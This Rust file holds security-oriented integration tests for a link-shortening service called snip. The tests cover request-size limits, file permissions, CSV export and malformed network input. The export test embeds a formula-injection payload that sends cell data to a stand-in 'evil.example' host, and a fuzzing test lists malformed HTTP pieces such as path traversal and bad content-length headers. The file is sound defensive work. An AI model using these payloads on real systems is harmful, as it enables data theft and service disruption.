//! What somebody would try who means harm: by strangers, by whoever has a key, and by what else can
//! be reached. Each test is of something that once went wrong, or would be the end of it.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::time::Duration;

use seawall_testkit::{Nats, Redis};
use serde_json::{Value, json};

use crate::clicks::{SOON, until};
use crate::instance::{Home, Instance, to};

const TARGET: &str = "https://a.example/";

fn start() -> (Home, Instance) {
    let home = Home::new();
    let snip = home.start("");
    (home, snip)
}

/// `snip` with these arguments in a directory, and what it prints.
fn run(home: &Home, snip: &Instance, arguments: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_snip"))
        .args(arguments)
        .current_dir(home.path())
        .env("SNIP_URL", format!("http://{}", snip.address))
        .env("SNIP_KEY", home.key())
        .output()
        .expect("snip runs");
    let text = |bytes| String::from_utf8(bytes).expect("text");
    assert!(output.status.success(), "{}", text(output.stderr));
    text(output.stdout)
}

#[test]
fn who_is_not_known_sends_no_megabytes() {
    let home = Home::new();
    let snip = home.start("[clicks]\nreport-token = \"secret\"");
    for (path, kind, length, status) in [
        ("clicks/report", "application/x-ndjson", 4 << 20, 401),
        ("links/bulk", "application/json", 16 << 20, 401),
        ("links", "application/json", 64 << 10, 401),
    ] {
        let mut client = snip.connect();
        // Of the body nothing comes: whoever waits for it does not answer.
        let head = format!(
            "POST /api/v1/{path} HTTP/1.1\r\nhost: snip\r\nseawall-batch: 1\r\n\
             content-type: {kind}\r\ncontent-length: {length}\r\n\r\n"
        );
        client.send(head).expect("it takes the head");
        assert_eq!(client.read_response().expect("it answers").status, status, "{path}");
    }
}

#[test]
fn who_asks_without_reading_is_not_answered_for_ever() {
    const LIMIT: u64 = 256 << 20;
    let (_home, snip) = start();
    let mut client = snip.connect();
    let requests = "GET / HTTP/1.1\r\nhost: snip\r\n\r\n".repeat(2_000);
    let sent = client.send_until_stuck(requests.as_bytes(), LIMIT, Duration::from_secs(1));
    assert!(sent.expect("it stays") < LIMIT, "it takes whatever comes");
    assert_eq!(snip.get("/healthz").status, 200, "others are answered");
}

#[test]
fn the_database_is_for_its_owner_alone() {
    let (home, snip) = start();
    snip.create(json!({ "target": TARGET }));
    let mut seen = 0;
    for file in fs::read_dir(home.path()).expect("a directory") {
        let file = file.expect("a file");
        if file.file_name().to_string_lossy().starts_with("snip.db") {
            let mode = file.metadata().expect("it is there").permissions().mode();
            assert_eq!(mode & 0o777, 0o600, "{:?}", file.path());
            seen += 1;
        }
    }
    assert!(seen >= 2, "the file, and what is written ahead");
    drop(snip);
    let file = home.path().join("snip.db");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).expect("it is ours");
    let snip = home.start("");
    assert!(snip.process.text().contains("others on this machine may read snip.db"));
}

#[test]
fn a_body_takes_no_more_memory_than_it_is_worth() {
    let (home, snip) = start();
    let key = home.key();
    let bulk = |body: &str| {
        let fields = format!("authorization: Bearer {key}\r\ncontent-type: application/json\r\n");
        snip.ask("POST", "/api/v1/links/bulk", &fields, body)
    };
    // Sixteen times as many as lists of values.
    let zeros = format!("{{\"links\":[{}0]}}", "0,".repeat(7 << 20));
    assert_eq!(bulk(&zeros).status, 413);
    // Each would be told of.
    let fields: String = (0..50_000).map(|number| format!("\"{number}\":0,")).collect();
    let unknown = format!("{{\"links\":[],{fields}\"z\":0}}");
    let answer = bulk(&unknown);
    assert_eq!(answer.status, 422);
    assert!(answer.body.len() < 64 << 10, "{} bytes", answer.body.len());
    let many = json!({ "links": vec![json!({ "target": TARGET }); 1000] }).to_string();
    assert_eq!(bulk(&many).status, 200);
}

#[test]
fn a_limited_link_does_not_tell_where_it_leads_for_nothing() {
    let (_home, snip) = start();
    let code = snip.create(json!({ "target": TARGET, "clicks_left": 1 }));
    for _ in 0..3 {
        let answer = snip.ask("HEAD", &format!("/{code}"), "", "");
        assert_eq!((answer.status, answer.header("location")), (200, None));
        assert_eq!(answer.header("cache-control"), Some("no-store"));
    }
    assert_eq!(snip.follow(&code), to(TARGET), "the click was not taken");
    for method in ["GET", "HEAD"] {
        let answer = snip.ask(method, &format!("/{code}"), "", "");
        assert_eq!((answer.status, answer.header("location")), (410, None), "{method}");
    }
}

#[test]
fn nobody_is_told_that_an_expired_link_is_what_they_have() {
    let (_home, snip) = start();
    let code = snip.create(json!({ "target": TARGET, "expires": "2020-01-01T00:00:00Z" }));
    let answer = snip.get(&format!("/{code}"));
    assert_eq!((answer.status, answer.header("etag")), (410, None));
    assert_eq!(answer.header("cache-tag"), Some(&*format!("link:{code}")));
}

#[test]
fn an_export_has_no_formulas_and_comes_back_as_it_was() {
    let (home, snip) = start();
    let title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    let body = json!({
        "target": TARGET, "alias": "-1-2", "title": title, "tags": ["@SUM(1)", "plain"]
    });
    snip.create(body);
    let csv = run(&home, &snip, &["export"]);
    for cell in csv.split(['\n', ',', '"']).filter(|cell| !cell.is_empty()) {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{csv}");
    }
    snip.api(&home.key(), "DELETE", "/links/-1-2", &Value::Null);
    fs::write(home.path().join("links.csv"), &csv).expect("it can be written");
    run(&home, &snip, &["import", "links.csv"]);
    let link = snip.api(&home.key(), "GET", "/links/-1-2", &Value::Null);
    let link: Value = serde_json::from_slice(&link.body).expect("JSON");
    assert_eq!((&link["title"], &link["tags"]), (&json!(title), &json!(["@SUM(1)", "plain"])));
}

/// Whatever comes, it answers what it must or hangs up, and goes on.
#[test]
fn garbage_is_refused_and_forgotten() {
    let (_home, snip) = start();
    let code = snip.create(json!({ "target": TARGET }));
    let pieces: [&[u8]; 24] = [
        b"GET /",
        b"POST /",
        b"HEAD /",
        b"\x16\x03\x01",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b" HTTP/1.1",
        b" HTTP/9.9",
        b"\r\n",
        b"\r\n\r\n",
        b"\n\n",
        b"host: a\r\n",
        b"host: \xff\xfe\r\n",
        b"content-length: 5\r\n",
        b"content-length: -1\r\n",
        b"content-length: 99999999999999999999\r\n",
        b"transfer-encoding: chunked\r\n",
        b"ffffffffffffffff\r\n",
        b"0\r\n\r\n",
        b"\0\0\0\0",
        b"cookie: snip=%00;;=;snip\r\n",
        b"authorization: Bearer snip_\xc3\xbc\r\n",
        b"x-forwarded-for: ,,,[,]:]\r\n",
        b"api/v1/links?cursor=%ff&limit=-1",
        b"%2e%2e/%00",
    ];
    let mut random = fastrand::Rng::with_seed(5);
    for _ in 0..300 {
        let Ok(mut wire) = TcpStream::connect(snip.address) else { continue };
        let count = random.usize(1..12);
        for _ in 0..count {
            // It may have hung up.
            wire.write_all(pieces[random.usize(..pieces.len())]).ok();
        }
    }
    let long = "a".repeat(60_000);
    for (path, status) in [
        (format!("/{long}"), 404),
        (format!("/assets/{long}"), 404),
        (format!("/api/v1/links/{long}"), 401),
    ] {
        assert_eq!(snip.get(&path).status, status, "{path:.20}");
    }
    assert_eq!(snip.follow(&code), to(TARGET));
    snip.until(|snip| snip.metric("snip_connections", ""), |open| *open == 1);
}

/// Messages of others in the stream.
fn publish(nats: &Nats, payloads: &[String]) {
    let mut wire = TcpStream::connect(nats.address()).expect("it listens");
    let mut text = "CONNECT {\"verbose\":false}\r\n".to_owned();
    for payload in payloads {
        text += &format!("PUB snip.clicks {}\r\n{payload}\r\n", payload.len());
    }
    wire.write_all(text.as_bytes()).expect("it takes them");
    wire.write_all(b"PING\r\n").expect("it takes more");
    let mut lines = BufReader::new(wire).lines();
    assert!(lines.any(|line| line.expect("it answers") == "PONG"));
}

#[test]
fn messages_of_others_do_not_stop_the_count() {
    let nats = Nats::start().expect("nats-server runs");
    let home = Home::new();
    let snip = home.start(&format!("nats = \"{}\"\n{SOON}", nats.url()));
    let code = snip.create(json!({ "target": TARGET }));
    snip.get(&format!("/{code}"));
    until(&snip, &home.key(), &code, 1);
    let line = |time: i64| {
        json!({ "time": time, "code": code, "device": "mobile", "browser": "Firefox" }).to_string()
    };
    let times = [i64::MIN, i64::MAX, 0, 253_402_300_800_000, 4_102_444_800_000];
    let mut payloads: Vec<String> = times.map(line).into();
    payloads.extend(["\0\u{fffd}\n{".repeat(1000), "[".repeat(10_000), String::new()]);
    publish(&nats, &payloads);
    snip.get(&format!("/{code}"));
    until(&snip, &home.key(), &code, 2 + times.len() as u64);
}

#[test]
fn what_others_put_into_redis_is_passed_over() {
    let redis = Redis::start().expect("redis-server runs");
    let home = Home::new();
    let config = format!("redis = \"{}\"\n[cache]\nmemory = 0\nmemory-ttl = \"50ms\"", redis.url());
    let snip = home.start(&config);
    snip.until(|snip| snip.metric("snip_redis_up", ""), |up| *up == 1);
    let code = snip.create(json!({ "target": TARGET }));
    assert_eq!(snip.follow(&code), to(TARGET));
    let keys = redis.command(&["KEYS", &format!("*:{code}")]).expect("it answers");
    let name = keys.lines().find(|line| line.ends_with(&code)).expect("it is there");
    // No value of ours, and one of another kind.
    for words in [&["SET", name, "\u{2}???"][..], &["SET", name, ""], &["DEL", name]] {
        redis.command(words).expect("it answers");
        assert_eq!(snip.follow(&code), to(TARGET), "{words:?}");
    }
    redis.command(&["DEL", name]).expect("it answers");
    redis.command(&["LPUSH", name, "x"]).expect("it answers");
    for _ in 0..20 {
        assert_eq!(snip.follow(&code), to(TARGET));
    }
}
